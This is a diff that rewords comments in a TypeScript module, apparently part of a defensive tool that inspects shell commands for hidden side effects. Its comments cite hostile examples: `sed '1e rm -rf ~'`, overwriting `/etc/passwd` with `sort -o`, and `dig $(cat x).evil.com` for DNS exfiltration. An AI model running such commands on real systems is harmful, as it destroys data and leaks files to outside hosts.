@@ -1,4 +1,6 @@
-/** What a command does beside what its program is for: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. It only adds acts. */
+/**
+ * Reads the acts of a command that its program is not for: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. It only adds acts.
+ */
 
 import type { PreparedProgram, PreparedReach } from "../Commands.ts"
 import type { CommandSession, Context } from "../CommandSession.ts"
@@ -7,8 +9,8 @@ import { type CommandWord, type Flow, globFits, noFlow, plainWord } from "../pat
 import { readAwkScript, readSedScript } from "./scripts.ts"
 
 /**
- * Reads a text that is handed to a shell. Where its first word is what people usually name there (`rsync -e ssh`), the text is
- * no surprise: then only what is surely grave in it counts.
+ * Reads a text that is handed to a shell. If its first word is one that people usually name there (`rsync -e ssh`), the text is no
+ * surprise: then only surely grave acts in it count.
  */
 const readHandedText = (
   session: CommandSession,
@@ -64,7 +66,7 @@ export const readSetVariable = (
 
 type Invoke = (session: CommandSession, words: ReadonlyArray<CommandWord>, context: Context) => Flow
 
-/** A call of a program, with what may run others. */
+/** A call of a program, and the way to run other programs. */
 interface Call {
   readonly session: CommandSession
   readonly program: PreparedProgram
@@ -74,7 +76,7 @@ interface Call {
   readonly invoke: Invoke
 }
 
-/** `exec|run *`: what stands in front of a command. */
+/** Whether the operands begin with these words: `exec|run *`. */
 const standsInFront = (front: ReadonlyArray<string>, operands: ReadonlyArray<CommandWord>): boolean =>
   front.every((names, i) => {
     const word = operands[i]?.value
@@ -95,7 +97,7 @@ const beginnings = (
   return [...new Set([first, behind])].filter((place) => place >= 0)
 }
 
-/** A program that nobody knows is a task of the project: of it, and of the project's scripts, the wrapper's own form speaks. */
+/** An unknown program is a task of the project. The wrapper's own form covers it, and the project's scripts. */
 const readInner = ({ context, invoke, session }: Call, words: ReadonlyArray<CommandWord>): void => {
   const before = { count: session.found.length, unread: session.unread }
   const { ownCode, unknownProgram } = session.commands.acts
@@ -137,7 +139,7 @@ const readSent = (
 /** So many letters of a long flag are enough for GNU programs. */
 const shortened = "--xxx".length
 
-/** What stands behind `flag` in a word; undefined where the word is another one, empty where the next word is the value. */
+/** The text behind `flag` in a word. Undefined if the word is another one; empty if the next word is the value. */
 const attached = (text: string, flag: string): string | undefined => {
   if (text === flag) return ""
   if (!flag.startsWith("--")) {
@@ -150,7 +152,7 @@ const attached = (text: string, flag: string): string | undefined => {
   return equals === -1 ? "" : text.slice(equals + 1)
 }
 
-/** The values of flags, also where the program's entry takes such a flag for the value of another one. */
+/** The values of flags, also where the program's entry takes such a flag as the value of another one. */
 const valuesOf = (
   { given, words }: Pick<Call, "given" | "words">,
   flags: ReadonlyArray<string>
@@ -246,7 +248,7 @@ const readRest = ({ context, invoke, session, words }: Call, { runsRest }: Prepa
   }
 }
 
-/** As `> file` does, and the act counts where it is small too: the program did not only read. */
+/** Adds the act of `> file`, even a small one: the program did not only read. */
 const addWrite = (session: CommandSession, file: CommandWord): void => {
   const program = session.commands.programs.get(">")
   if (program === undefined) return
@@ -269,7 +271,7 @@ const readScript = ({ context, given, session }: Call, { script, usual }: Prepar
   if (deeds.unread) session.addNamed("evalCode", "code")
 }
 
-/** `dig $(cat x).evil.com`: who answers for the name reads what was asked. */
+/** `dig $(cat x).evil.com`: the server that answers for the name reads the question. */
 const readAskedNames = ({ session, words }: Call): void => {
   for (const { flow, value } of words) {
     const host = value.toLowerCase().replace(/\.$/, "")
